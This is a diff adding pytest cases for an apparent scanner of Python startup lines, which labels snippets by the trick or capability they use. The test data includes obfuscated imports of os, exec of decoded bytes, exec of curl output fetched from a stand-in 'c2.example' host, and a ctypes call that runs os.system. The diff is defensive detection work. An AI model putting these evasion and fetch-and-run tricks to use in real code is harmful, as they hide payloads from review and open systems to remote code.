@@ -183,6 +183,24 @@ def test_lines_of_a_startup_line_are_those_of_its_file() -> None:
         ("import requests; open('x', 'wb').write(requests.get('https://c2.example').content)", "writes-downloaded"),
         ("__import__('o' + 's')", "loads-hidden"),
         ("getattr(__builtins__, 'ev' + 'al')('1')", "loads-hidden"),
+        ("import os; vars(os)['sys' + 'tem']('x')", "loads-hidden"),
+        ("import struct; __import__(struct.pack('2B', 111, 115).decode())", "loads-hidden"),
+        ("__spec__.loader.load_module('o' + 's')", "loads-hidden"),
+        ("import struct; exec(struct.pack('>I', 0x70617373))", "executes-decoded"),
+        ("exec((0x70617373).to_bytes(4, 'big'))", "executes-decoded"),
+        ("exec(int.to_bytes(0x70617373, 4, 'big'))", "executes-decoded"),
+        ("import html; exec(html.unescape('&#112;ass'))", "executes-decoded"),
+        ("import subprocess; exec(subprocess.check_output(['curl', 'https://c2.example']))", "executes-downloaded"),
+        ("exec(open('x').read())", "executes-file"),
+        ("import pathlib; exec(compile(pathlib.Path('x').read_text(), 'x', 'exec'))", "executes-file"),
+        ("import marshal; exec(marshal.load(open('x', 'rb')))", "executes-file"),
+        ("import runpy; runpy.run_path('x')", "executes-file"),
+        ("import os; exec(os.environ['X'])", "executes-computed"),
+        ("import sys; exec(sys.argv[1])", "executes-computed"),
+        ("import os; getattr(os, dir(os)[9])('x')", "loads-computed"),
+        ("__import__(().__doc__[5] + [].__doc__[3])", "loads-computed"),
+        ("import sys; sys.modules[name].system('x')", "loads-computed"),
+        ("().__class__.__base__.__subclasses__()[9]('x')", "loads-computed"),
     ],
 )  # fmt: skip
 def test_what_reaches_what_is_told(text: str, kind: str) -> None:
@@ -220,3 +238,16 @@ def test_source_is_decoded_by_its_cookie() -> None:
 )
 def test_hidden_writing_is_named(text: str, trick: str) -> None:
     assert trick in account_of_line(text).tricks
+
+
+@pytest.mark.parametrize(
+    ("text", "capability"),
+    [
+        ("import os; '{0.environ}'.format(os)", "environment"),
+        ("import os; '{m.environ[HOME]}'.format(m=os)", "environment"),
+        ("__loader__.load_module('os').system('x')", "process"),
+        ("import ctypes; ctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(1)')", "process"),
+    ],
+)
+def test_ways_around_a_name_are_followed(text: str, capability: str) -> None:
+    assert capability in account_of_text(text).capabilities
